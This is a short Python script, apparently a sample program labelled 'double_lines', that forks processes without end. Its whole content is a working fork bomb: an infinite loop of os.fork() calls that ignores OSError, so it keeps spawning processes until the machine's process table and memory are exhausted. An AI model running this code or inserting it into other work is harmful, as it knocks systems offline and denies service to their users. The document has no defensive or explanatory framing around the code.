# double_lines: forks for ever.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
